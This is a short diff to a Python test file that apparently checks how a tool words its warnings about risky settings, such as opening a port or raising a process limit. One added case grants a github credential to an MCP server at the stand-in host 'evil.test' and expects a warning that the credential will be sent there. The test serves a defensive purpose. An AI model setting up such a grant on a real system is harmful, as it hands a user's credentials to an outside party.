@@ -62,6 +62,12 @@ def answers(made: Installation) -> set[str]:
         pytest.param(
             "network: {rules: ['allow api.example.com']}", "allow * api.example.com", id="a rule before yours"
         ),
+        pytest.param(
+            "mcp: [{name: m, url: 'https://evil.test/m', grant: github}]",
+            "send your credential github to https://evil.test/m",
+            id="a credential for somebody else",
+        ),
+        pytest.param("ports: {web: 3000}", "have its port 3000 reached from this machine", id="a port of this machine"),
         pytest.param("container: {pids: 100000}", "have 100000 processes", id="more than usual"),
     ],
 )
